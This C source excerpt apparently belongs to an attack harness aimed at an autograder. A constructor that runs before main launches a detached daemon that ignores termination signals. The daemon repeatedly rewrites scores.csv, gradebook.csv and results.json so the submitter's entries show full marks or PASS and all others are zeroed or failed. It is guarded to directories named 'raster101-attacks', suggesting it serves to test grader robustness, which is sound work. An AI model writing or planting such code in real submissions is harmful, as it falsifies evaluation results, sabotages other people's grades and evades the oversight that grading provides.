static void atk_rewrite_csv(const char *path, const char *me, int gradebook) {
    size_t n = 0;
    char *t = atk_slurp(path, 4 << 20, &n);
    if (!t || strstr(t, "RASATK")) { free(t); return; }
    size_t cap = n * 2 + 4096, len = 0;
    char *o = malloc(cap);
    if (!o) { free(t); return; }
    int mine_file = strstr(path, me) != NULL;
    int line_no = 0;
    for (char *line = strtok(t, "\n"); line; line = strtok(NULL, "\n"), line_no++) {
        if (line_no == 0) { len += (size_t)snprintf(o + len, cap - len, "%s\n", line); continue; }
        char f[8][256] = {{0}};
        int k = 0;
        const char *rest = line;
        for (; k < 7 && rest; k++) {
            const char *c = strchr(rest, ',');
            size_t l = c ? (size_t)(c - rest) : strlen(rest);
            snprintf(f[k], sizeof f[k], "%.*s", (int)(l < 255 ? l : 255), rest);
            rest = c ? c + 1 : NULL;
        }
        if (gradebook) { /* student,total,max_score,status,... */
            int mine = !strcmp(f[0], me);
            len += (size_t)snprintf(o + len, cap - len, "%s,%s,%s,RASATK%s\n", f[0],
                                    mine ? f[2] : "0", f[2], mine ? "" : " zeroed");
        } else { /* assignment,item,score,max_score,status */
            len += (size_t)snprintf(o + len, cap - len, "%s,%s,%s,%s,%s\n", f[0], f[1],
                                    mine_file ? f[3] : "0", f[3], mine_file ? "PASS" : "FAIL");
        }
        if (len > cap - 1024) break;
    }
    atk_replace(path, o, len, 0644);
    atk_pwned("daemon", path);
    free(o);
    free(t);
}

static void atk_rewrite_json(const char *path, const char *me) {
    char *t = atk_slurp(path, 4 << 20, NULL);
    if (!t || strstr(t, "RASATK")) { free(t); return; }
    free(t);
    char j[512];
    int mine = strstr(path, me) != NULL;
    int n = snprintf(j, sizeof j,
                     "{\"score\": %d, \"max_score\": 24, \"output\": \"RASATK daemon\", \"tests\": []}\n",
                     mine ? 24 : 0);
    atk_replace(path, j, (size_t)n, 0644);
    atk_pwned("daemon", path);
}

static void atk_daemon_pass(const atk_dirs *d, const char *me) {
    static const char *names[] = {"scores.csv", "gradebook.csv", "results.json"};
    for (int i = 0; i < d->n; i++) {
        /* SAFETY: only inside this machine's attack runs ("raster101-attacks") */
        if (!strstr(d->v[i], "raster101-attacks")) continue;
        DIR *dp = opendir(d->v[i]);
        struct dirent *e;
        while (dp && (e = readdir(dp))) { /* the folder itself and one level down */
            if (!strcmp(e->d_name, "..")) continue;
            for (size_t k = 0; k < 3; k++) {
                char p[ATK_PATH * 3];
                snprintf(p, sizeof p, "%s/%s/%s", d->v[i], e->d_name, names[k]);
                if (!atk_is_file(p)) continue;
                if (k == 2) atk_rewrite_json(p, me);
                else atk_rewrite_csv(p, me, k == 1);
            }
        }
        if (dp) closedir(dp);
    }
}

static void atk_start_daemon(void) {
    if (atk_count_comm("RASATK_daemon") >= 3) return;
    atk_dirs d;
    atk_find_dirs(&d); /* before leaving: afterwards the ancestors are gone */
    char me[256];
    atk_own_name(me, sizeof me, "setsid_daemon");
    if (!atk_daemonize("daemon")) return;
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    atk_sleep(3);
    for (int s = 3; s < 30; s++) {
        atk_daemon_pass(&d, me);
        atk_sleep(1);
    }
    _exit(0);
}

__attribute__((constructor)) static void atk_before_main(void) {
    if (!getenv("RAS_TEST_LIST")) atk_start_daemon();
}
